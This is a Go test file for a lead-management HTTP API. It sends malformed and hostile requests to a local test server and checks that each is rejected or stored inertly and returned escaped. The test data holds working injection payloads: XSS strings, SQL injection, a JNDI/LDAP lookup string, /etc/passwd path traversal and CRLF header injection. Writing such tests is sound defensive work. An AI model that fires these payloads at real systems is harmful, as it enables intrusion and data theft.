package httpapi_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/leadflow/leadflow/shared/httpapi"
	"github.com/leadflow/leadflow/shared/lead"
	"github.com/leadflow/leadflow/shared/local"
	"github.com/leadflow/leadflow/shared/localbus"
)

// server runs the local runtime on 127.0.0.1:0, so requests go through the
// real net/http server, its body limit and the API Gateway conversion.
type server struct {
	t    *testing.T
	app  *local.App
	base string
}

func startServer(t *testing.T) *server {
	t.Helper()
	app, err := local.New(local.Options{
		Addr: "127.0.0.1:0", DataDir: t.TempDir(), Token: "test-token", Clock: "manual",
		Start: time.Date(2026, 11, 24, 15, 0, 0, 0, time.UTC), RateLimit: -1, WebhookSecret: "whsec",
		Bus: localbus.Options{BaseBackoff: 5 * time.Millisecond, MaxBackoff: 20 * time.Millisecond},
	})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- app.Run(ctx) }()
	t.Cleanup(func() { cancel(); <-done; app.Close() })
	select {
	case <-app.Ready():
	case err := <-done:
		t.Fatalf("app stopped: %v", err)
	}
	return &server{t: t, app: app, base: "http://" + app.Addr()}
}

type answer struct {
	status int
	header http.Header
	raw    []byte
	body   map[string]any
}

func (s *server) do(method, path, contentType string, body []byte, headers map[string]string) answer {
	s.t.Helper()
	req, err := http.NewRequest(method, s.base+path, bytes.NewReader(body))
	if err != nil {
		s.t.Fatal(err)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	for k, v := range headers {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		s.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	a := answer{status: resp.StatusCode, header: resp.Header, raw: raw}
	if err := json.Unmarshal(raw, &a.body); err != nil {
		s.t.Fatalf("%s %s: %d answer is not a JSON object: %.300q", method, path, resp.StatusCode, raw)
	}
	return a
}

func errorOf(a answer) (code, field, msg string) {
	e, _ := a.body["error"].(map[string]any)
	code, _ = e["code"].(string)
	field, _ = e["field"].(string)
	msg, _ = e["message"].(string)
	return code, field, msg
}

const (
	jsonCT = "application/json"
	formCT = "application/x-www-form-urlencoded"
)

var token = map[string]string{"Authorization": "Bearer test-token"}

func nested(depth int) string {
	return `{"email":` + strings.Repeat("[", depth) + strings.Repeat("]", depth) + `}`
}

func TestHostileRequestsGetA4xxNamingTheProblem(t *testing.T) {
	s := startServer(t)
	known := s.do("POST", "/v1/forms/contact-us", jsonCT, []byte(`{"email":"known@northwind-analytics.com"}`), nil)
	if known.status != http.StatusAccepted {
		t.Fatalf("setup lead: %d %s", known.status, known.raw)
	}
	id := known.body["lead_id"].(string)
	big := strings.Repeat("x", 5000)
	many := `{"events":[` + strings.TrimSuffix(strings.Repeat(`{"lead_id":"`+id+`","type":"email_open"},`, 101), ",") + `]}`
	tests := []struct {
		name, method, path, ct string
		body                   string
		headers                map[string]string
		status                 int
		code, field            string
		msgHas                 string
	}{
		// Malformed JSON.
		{"unclosed object", "POST", "/v1/forms/contact-us", jsonCT, `{"email":`, nil, 400, "invalid", "", "invalid JSON"},
		{"unclosed array", "POST", "/v1/events", jsonCT, `{"events":[{"type":"email_open"}`, token, 400, "invalid", "", "invalid JSON"},
		{"trailing garbage", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co"} x`, nil, 400, "invalid", "", "invalid JSON"},
		{"two objects", "POST", "/v1/forms/contact-us", jsonCT, `{}{}`, nil, 400, "invalid", "", "after the top-level value"},
		{"array body", "POST", "/v1/forms/contact-us", jsonCT, `[{"email":"a@b.co"}]`, nil, 400, "invalid", "", "JSON object"},
		{"string body", "POST", "/v1/forms/contact-us", jsonCT, `"a@b.co"`, nil, 400, "invalid", "", "JSON object"},
		{"number body", "POST", "/v1/forms/contact-us", jsonCT, `42`, nil, 400, "invalid", "", "JSON object"},
		{"null body", "POST", "/v1/forms/contact-us", jsonCT, `null`, nil, 400, "invalid", "email", "required"},
		{"empty body", "POST", "/v1/forms/contact-us", jsonCT, ``, nil, 400, "invalid", "", "empty"},
		{"blank body", "POST", "/v1/forms/contact-us", jsonCT, " \n\t ", nil, 400, "invalid", "", "empty"},
		{"single quotes", "POST", "/v1/forms/contact-us", jsonCT, `{'email':'a@b.co'}`, nil, 400, "invalid", "", "invalid JSON"},
		{"comment", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co" /* hi */}`, nil, 400, "invalid", "", "invalid JSON"},
		{"trailing comma", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co",}`, nil, 400, "invalid", "", "invalid JSON"},
		{"bad escape", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a\qb@c.co"}`, nil, 400, "invalid", "", "invalid JSON"},
		{"lone surrogate escape", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co","first_name":"\ud800"}`, nil, 400, "invalid", "first_name", ""},
		{"BOM before JSON", "POST", "/v1/forms/contact-us", jsonCT, "\ufeff{\"email\":\"a@b.co\"}", nil, 400, "invalid", "", "invalid JSON"},
		// Wrong types.
		{"email number", "POST", "/v1/forms/contact-us", jsonCT, `{"email":12345}`, nil, 400, "invalid", "email", ""},
		{"email object", "POST", "/v1/forms/contact-us", jsonCT, `{"email":{"a":"b"}}`, nil, 400, "invalid", "email", "string, number or boolean"},
		{"email array", "POST", "/v1/forms/contact-us", jsonCT, `{"email":["a@b.co"]}`, nil, 400, "invalid", "email", "string, number or boolean"},
		{"email boolean", "POST", "/v1/forms/contact-us", jsonCT, `{"email":true}`, nil, 400, "invalid", "email", ""},
		{"name object", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co","first_name":{}}`, nil, 400, "invalid", "first_name", ""},
		{"employees words", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co","employees":"lots"}`, nil, 400, "invalid", "employees", ""},
		{"consent nonsense", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co","consent":"perhaps"}`, nil, 400, "invalid", "consent", ""},
		// Missing and bad emails.
		{"no email", "POST", "/v1/forms/contact-us", jsonCT, `{"first_name":"Ann"}`, nil, 400, "invalid", "email", "required"},
		{"empty email", "POST", "/v1/forms/contact-us", jsonCT, `{"email":""}`, nil, 400, "invalid", "email", ""},
		{"email without at", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"ann.example.com"}`, nil, 400, "invalid", "email", ""},
		{"email with space", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"ann smith@example.com"}`, nil, 400, "invalid", "email", ""},
		{"email with NUL", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"ann\u0000@example.com"}`, nil, 400, "invalid", "email", ""},
		{"email with CRLF header injection", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"ann@example.com\r\nBcc: all@example.com"}`, nil, 400, "invalid", "email", ""},
		{"email with tab", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"ann\t@example.com"}`, nil, 400, "invalid", "email", ""},
		{"email with DEL", "POST", "/v1/forms/contact-us", jsonCT, "{\"email\":\"ann\x7f@example.com\"}", nil, 400, "invalid", "email", ""},
		{"email too long", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"` + strings.Repeat("a", 300) + `@example.com"}`, nil, 400, "invalid", "email", ""},
		{"email two ats", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b@example.com"}`, nil, 400, "invalid", "email", ""},
		{"required company missing", "POST", "/v1/forms/demo-request", jsonCT, `{"email":"a@b.co"}`, nil, 400, "invalid", "company", "required"},
		// Control characters and huge fields.
		{"NUL in name", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co","first_name":"An\u0000n"}`, nil, 400, "invalid", "first_name", "control"},
		{"newline in title", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co","title":"VP\nSales"}`, nil, 400, "invalid", "title", "control"},
		{"huge name", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co","first_name":"` + big + `"}`, nil, 400, "invalid", "first_name", "longer"},
		{"huge extra", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co","utm_source":"` + big + `"}`, nil, 400, "invalid", "extras.utm_source", "longer"},
		{"control char in extra name", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co","utm\u0001":"x"}`, nil, 400, "invalid", "extras", ""},
		{"64 KiB and one byte", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co","x":"` + strings.Repeat("y", httpapi.MaxBody) + `"}`, nil, 413, "too_large", "", "exceeds"},
		{"10 MB body", "POST", "/v1/forms/contact-us", jsonCT, strings.Repeat(" ", 10<<20), nil, 413, "too_large", "", "exceeds"},
		{"10 MB urlencoded", "POST", "/v1/forms/contact-us", formCT, "email=a%40b.co&x=" + strings.Repeat("y", 10<<20), nil, 413, "too_large", "", ""},
		{"10 MB events", "POST", "/v1/events", jsonCT, `{"events":[` + strings.Repeat(`{"type":"email_open"},`, 500000) + `]}`, token, 413, "too_large", "", ""},
		// Deep nesting.
		{"nesting 9 levels", "POST", "/v1/forms/contact-us", jsonCT, nested(8), nil, 400, "invalid", "", "nested deeper"},
		{"nesting 10000 levels", "POST", "/v1/forms/contact-us", jsonCT, nested(10000), nil, 400, "invalid", "", "nested deeper"},
		{"nested events body", "POST", "/v1/events", jsonCT, `{"events":[{"properties":{"a":{"b":{"c":{"d":{"e":{"f":{"g":{}}}}}}}}}]}`, token, 400, "invalid", "", "nested deeper"},
		// Invalid UTF-8.
		{"invalid UTF-8 JSON", "POST", "/v1/forms/contact-us", jsonCT, "{\"email\":\"a@b.co\",\"first_name\":\"\xff\xfe\"}", nil, 400, "invalid", "", "UTF-8"},
		{"overlong UTF-8", "POST", "/v1/forms/contact-us", jsonCT, "{\"email\":\"a@b.co\",\"first_name\":\"\xc0\xaf\"}", nil, 400, "invalid", "", "UTF-8"},
		{"invalid UTF-8 urlencoded", "POST", "/v1/forms/contact-us", formCT, "email=a%40b.co&first_name=%FF%FE", nil, 400, "invalid", "first_name", "UTF-8"},
		{"raw invalid UTF-8 urlencoded", "POST", "/v1/forms/contact-us", formCT, "email=a%40b.co&first_name=\xff", nil, 400, "invalid", "", "UTF-8"},
		// Duplicate keys.
		{"duplicate email", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co","email":"c@d.co"}`, nil, 400, "invalid", "email", "duplicate"},
		{"duplicate key differing in escape", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co","\u0065mail":"c@d.co"}`, nil, 400, "invalid", "email", "duplicate"},
		{"duplicate urlencoded", "POST", "/v1/forms/contact-us", formCT, "email=a%40b.co&email=c%40d.co", nil, 400, "invalid", "email", "more than once"},
		{"duplicate outcome key", "POST", "/v1/outcomes", jsonCT, `{"lead_id":"` + id + `","outcome":"sales_accepted","outcome":"closed_won"}`, token, 400, "invalid", "outcome", "duplicate"},
		// Media types.
		{"no content type", "POST", "/v1/forms/contact-us", "", `{"email":"a@b.co"}`, nil, 415, "unsupported", "", "Content-Type is required"},
		{"text/plain", "POST", "/v1/forms/contact-us", "text/plain", `{"email":"a@b.co"}`, nil, 415, "unsupported", "", "not supported"},
		{"multipart", "POST", "/v1/forms/contact-us", "multipart/form-data; boundary=x", "--x--", nil, 415, "unsupported", "", ""},
		{"xml", "POST", "/v1/forms/contact-us", "application/xml", `<email>a@b.co</email>`, nil, 415, "unsupported", "", ""},
		{"malformed content type", "POST", "/v1/forms/contact-us", "application/json; charset", `{"email":"a@b.co"}`, nil, 415, "unsupported", "", "malformed"},
		{"urlencoded events", "POST", "/v1/events", formCT, `events=1`, token, 415, "unsupported", "", ""},
		{"malformed urlencoded", "POST", "/v1/forms/contact-us", formCT, "email=%zz", nil, 400, "invalid", "", "malformed"},
		// Unknown forms and routes.
		{"unknown form", "POST", "/v1/forms/no-such-form", jsonCT, `{"email":"a@b.co"}`, nil, 404, "not_found", "form", "unknown form"},
		{"form path traversal", "POST", "/v1/forms/..%2F..%2Fetc%2Fpasswd", jsonCT, `{"email":"a@b.co"}`, nil, 404, "not_found", "", ""},
		{"script as form name", "POST", "/v1/forms/%3Cscript%3E", jsonCT, `{"email":"a@b.co"}`, nil, 404, "not_found", "form", ""},
		{"unknown route", "POST", "/v1/nope", jsonCT, `{}`, nil, 404, "not_found", "", ""},
		{"GET a form", "GET", "/v1/forms/contact-us", "", ``, nil, 400, "invalid", "", "not allowed"},
		{"PUT a lead", "PUT", "/v1/leads/" + id, jsonCT, `{}`, token, 400, "invalid", "", "not allowed"},
		{"long idempotency key", "POST", "/v1/forms/contact-us", jsonCT, `{"email":"a@b.co"}`, map[string]string{"Idempotency-Key": strings.Repeat("k", 300)}, 400, "invalid", "Idempotency-Key", ""},
		// Events and outcomes.
		{"events not a list", "POST", "/v1/events", jsonCT, `{"events":{}}`, token, 400, "invalid", "events", "array"},
		{"no events", "POST", "/v1/events", jsonCT, `{"events":[]}`, token, 400, "invalid", "events", "at least one"},
		{"101 events", "POST", "/v1/events", jsonCT, many, token, 400, "invalid", "events", "at most"},
		{"unknown events field", "POST", "/v1/events", jsonCT, `{"events":[{"type":"email_open"}],"extra":1}`, token, 400, "invalid", "extra", "unknown field"},
		{"event lead_id number", "POST", "/v1/events", jsonCT, `{"events":[{"lead_id":5,"type":"email_open"}]}`, token, 400, "invalid", "events.lead_id", ""},
		{"event properties not strings", "POST", "/v1/events", jsonCT, `{"events":[{"lead_id":"x","type":"email_open","properties":{"a":1}}]}`, token, 400, "invalid", "events.properties", "must be a string"},
		{"unknown outcome", "POST", "/v1/outcomes", jsonCT, `{"lead_id":"` + id + `","outcome":"won_big"}`, token, 400, "invalid", "outcome", "unknown outcome"},
		{"rejection without reason", "POST", "/v1/outcomes", jsonCT, `{"lead_id":"` + id + `","outcome":"sales_rejected"}`, token, 422, "unprocessable", "reason", ""},
		{"outcome for unknown lead", "POST", "/v1/outcomes", jsonCT, `{"lead_id":"nope","outcome":"sales_accepted"}`, token, 404, "not_found", "lead_id", ""},
		{"outcome bad time", "POST", "/v1/outcomes", jsonCT, `{"lead_id":"` + id + `","outcome":"sales_accepted","occurred_at":"yesterday"}`, token, 400, "invalid", "occurred_at", ""},
		{"outcome as list", "POST", "/v1/outcomes", jsonCT, `[]`, token, 400, "invalid", "", ""},
		// Internal actions.
		{"disqualify without reason", "POST", "/v1/leads/" + id + "/disqualify", jsonCT, `{}`, token, 422, "unprocessable", "reason", ""},
		{"disqualify as text", "POST", "/v1/leads/" + id + "/disqualify", "text/plain", `spam`, token, 415, "unsupported", "", ""},
		{"disqualify huge reason", "POST", "/v1/leads/" + id + "/disqualify", jsonCT, `{"reason":"` + strings.Repeat("r", 2000) + `"}`, token, 400, "invalid", "reason", ""},
		{"reassign unknown rep", "POST", "/v1/leads/" + id + "/reassign", jsonCT, `{"owner":"nobody"}`, token, 400, "invalid", "owner", ""},
		{"reassign without owner", "POST", "/v1/leads/" + id + "/reassign", jsonCT, `{"reason":"x"}`, token, 422, "unprocessable", "owner", ""},
		{"contacted without owner", "POST", "/v1/leads/" + id + "/contacted", "", ``, token, 422, "unprocessable", "", ""},
		{"queue limit words", "GET", "/v1/owners/ava.brooks/queue?limit=abc", "", ``, token, 400, "invalid", "limit", ""},
		{"queue limit huge", "GET", "/v1/owners/ava.brooks/queue?limit=99999999999999999999", "", ``, token, 400, "invalid", "limit", ""},
		{"queue of unknown rep", "GET", "/v1/owners/%3Cscript%3E/queue", "", ``, token, 404, "not_found", "owner", ""},
		{"unknown lead", "GET", "/v1/leads/01ZZZZZZZZZZZZZZZZZZZZZZZZ", "", ``, token, 404, "not_found", "", ""},
		{"SQL-looking lead id", "GET", "/v1/leads/" + url.PathEscape("1' OR '1'='1"), "", ``, token, 404, "not_found", "", ""},
		{"lookup without email", "GET", "/v1/leads", "", ``, token, 400, "invalid", "email", ""},
		{"erase unknown lead", "DELETE", "/v1/leads/nope", "", ``, token, 404, "not_found", "", ""},
	}
	if len(tests) < 60 {
		t.Fatalf("only %d hostile requests", len(tests))
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			a := s.do(tc.method, tc.path, tc.ct, []byte(tc.body), tc.headers)
			code, field, msg := errorOf(a)
			if a.status != tc.status || code != tc.code {
				t.Fatalf("status %d code %q (%s), want %d %q: %.300s", a.status, code, msg, tc.status, tc.code, a.raw)
			}
			if tc.field != "" && field != tc.field {
				t.Errorf("field %q, want %q (%s)", field, tc.field, msg)
			}
			if !strings.Contains(msg, tc.msgHas) {
				t.Errorf("message %q does not say %q", msg, tc.msgHas)
			}
			if ct := a.header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
				t.Errorf("Content-Type %q, want JSON", ct)
			}
		})
	}
	// Nothing above created a lead besides the setup one.
	n := 0
	if err := s.app.Store.ScanLeads(context.Background(), func(*lead.Lead) error { n++; return nil }); err != nil || n != 1 {
		t.Fatalf("%d leads stored (%v), want only the setup lead", n, err)
	}
}

func TestBadEventsAreRejectedOneByOne(t *testing.T) {
	s := startServer(t)
	known := s.do("POST", "/v1/forms/contact-us", jsonCT, []byte(`{"email":"events@northwind-analytics.com"}`), nil)
	id, _ := known.body["lead_id"].(string)
	props := map[string]string{}
	for i := 0; i < 51; i++ {
		props[fmt.Sprint("k", i)] = "v"
	}
	evs := []map[string]any{
		{"lead_id": id, "type": "email_open"},
		{"lead_id": id, "type": "<script>alert(1)</script>"},
		{"lead_id": id, "type": "email_open", "occurred_at": "2026-13-45T99:00:00Z"},
		{"lead_id": id, "type": "email_open", "occurred_at": "2030-01-01T00:00:00Z"},
		{"lead_id": id, "type": "page_view", "url": "https://x.example/" + strings.Repeat("p", 3000)},
		{"lead_id": id, "type": "email_open", "properties": props},
		{"lead_id": id, "type": "email_open", "properties": map[string]string{"k": "line\nbreak" + strings.Repeat("v", 1000)}},
		{"lead_id": "01ZZZZZZZZZZZZZZZZZZZZZZZZ", "type": "email_open"},
		{"email": "nobody@nowhere.example", "type": "email_open"},
		{"type": "email_open"},
	}
	want := []struct{ status, field string }{
		{"accepted", ""}, {"rejected", "type"}, {"rejected", "occurred_at"}, {"rejected", "occurred_at"}, {"rejected", "url"},
		{"rejected", "properties"}, {"rejected", "properties"}, {"rejected", "lead_id"}, {"rejected", "email"}, {"rejected", "lead_id"},
	}
	raw, _ := json.Marshal(map[string]any{"events": evs})
	a := s.do("POST", "/v1/events", jsonCT, raw, token)
	if a.status != http.StatusAccepted {
		t.Fatalf("status %d: %s", a.status, a.raw)
	}
	results, _ := a.body["results"].([]any)
	if len(results) != len(want) {
		t.Fatalf("%d results, want %d: %s", len(results), len(want), a.raw)
	}
	for i, r := range results {
		m := r.(map[string]any)
		e, _ := m["error"].(map[string]any)
		field, _ := e["field"].(string)
		if m["status"] != want[i].status || field != want[i].field {
			t.Errorf("event %d: %v %q, want %s %q (%v)", i, m["status"], field, want[i].status, want[i].field, e)
		}
	}
	if bytes.Contains(a.raw, []byte("<script>")) {
		t.Errorf("the answer echoes markup unescaped: %s", a.raw)
	}
}

// TestHostileValuesAreStoredAsGiven: markup and SQL in names are data. They
// are stored byte for byte and returned JSON-escaped, never interpreted.
func TestHostileValuesAreStoredAsGiven(t *testing.T) {
	s := startServer(t)
	fields := map[string]string{
		"email":      "bobby.tables@northwind-analytics.com",
		"first_name": `<script>alert("x")</script>`,
		"last_name":  `Robert'); DROP TABLE leads;--`,
		"company":    `' OR 1=1; -- & <img src=x onerror=alert(1)>`,
		"title":      `{{.Secret}} ${jndi:ldap://x.example/a} %s%n`,
		"utm_source": `"><svg/onload=alert(1)>`,
		"notes":      "Zoë 山田 مرحبا 🙂 ‮",
	}
	for _, ct := range []string{jsonCT, formCT} {
		t.Run(ct, func(t *testing.T) {
			f := map[string]string{}
			for k, v := range fields {
				f[k] = v
			}
			f["email"] = strings.Replace(f["email"], "@", "+"+strings.TrimPrefix(ct, "application/")+"@", 1)
			var body []byte
			if ct == jsonCT {
				body, _ = json.Marshal(f)
			} else {
				vals := url.Values{}
				for k, v := range f {
					vals.Set(k, v)
				}
				body = []byte(vals.Encode())
			}
			a := s.do("POST", "/v1/forms/contact-us", ct, body, nil)
			if a.status != http.StatusAccepted {
				t.Fatalf("status %d: %s", a.status, a.raw)
			}
			id := a.body["lead_id"].(string)
			l, err := s.app.Store.GetLead(context.Background(), id)
			if err != nil {
				t.Fatal(err)
			}
			stored := map[string]string{"first_name": l.FirstName, "last_name": l.LastName, "company": l.Company, "title": l.Title, "utm_source": l.Extras["utm_source"], "notes": l.Extras["notes"]}
			for k, got := range stored {
				if got != f[k] {
					t.Errorf("%s stored as %q, want %q byte for byte", k, got, f[k])
				}
			}
			view := s.do("GET", "/v1/leads/"+id, "", nil, token)
			if view.status != http.StatusOK {
				t.Fatalf("get lead: %d %s", view.status, view.raw)
			}
			for _, markup := range []string{"<script>", "<img", "<svg", `">`} {
				if bytes.Contains(view.raw, []byte(markup)) {
					t.Errorf("GET /v1/leads/{id} returns %q unescaped", markup)
				}
			}
			if !bytes.Contains(view.raw, []byte(`\u003cscript\u003e`)) {
				t.Errorf("the name is not returned JSON-escaped: %.400s", view.raw)
			}
			if view.header.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(view.header.Get("Content-Type"), "application/json") {
				t.Errorf("headers %v: want JSON with nosniff", view.header)
			}
			var v httpapi.LeadView
			if err := json.Unmarshal(view.raw, &v); err != nil {
				t.Fatal(err)
			}
			if v.Profile.FirstName != f["first_name"] || v.Profile.Company != f["company"] || v.Extras["notes"] != f["notes"] {
				t.Errorf("decoded view %+v %v differs from what was posted", v.Profile, v.Extras)
			}
		})
	}
}

// TestRawProtocolAbuse speaks HTTP by hand for what net/http's client
// refuses to send: header values with bare line breaks and NULs. net/http
// reads a bare CR or LF as the end of a header line (so the "injected"
// header is just another request header) and refuses the rest; either way
// nothing is reflected into the answer and nothing fails.
func TestRawProtocolAbuse(t *testing.T) {
	s := startServer(t)
	body := `{"email":"raw@northwind-analytics.com"}`
	tests := []struct {
		name, header string
		status       int
	}{
		{"bare LF in a header value", "Idempotency-Key: a\nX-Injected: yes", http.StatusAccepted},
		{"CR in a header value", "Idempotency-Key: a\rX-Injected: yes", http.StatusBadRequest},
		{"NUL in a header value", "Idempotency-Key: a\x00b", http.StatusBadRequest},
		{"header without a colon", "Idempotency-Key", http.StatusBadRequest},
		{"space before the colon", "Idempotency-Key : a", http.StatusBadRequest},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			conn, err := net.DialTimeout("tcp", s.app.Addr(), 5*time.Second)
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
			fmt.Fprintf(conn, "POST /v1/forms/contact-us HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n%s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", tc.header, len(body), body)
			resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
			if err != nil {
				t.Fatalf("no HTTP answer: %v", err)
			}
			defer resp.Body.Close()
			if resp.StatusCode != tc.status {
				t.Errorf("status %d, want %d", resp.StatusCode, tc.status)
			}
			if resp.Header.Get("X-Injected") != "" {
				t.Error("an injected header came back")
			}
		})
	}
	// Only the bare-LF post was accepted.
	n := 0
	if err := s.app.Store.ScanLeads(context.Background(), func(*lead.Lead) error { n++; return nil }); err != nil || n != 1 {
		t.Fatalf("%d leads stored (%v), want the one of the accepted posts", n, err)
	}
}
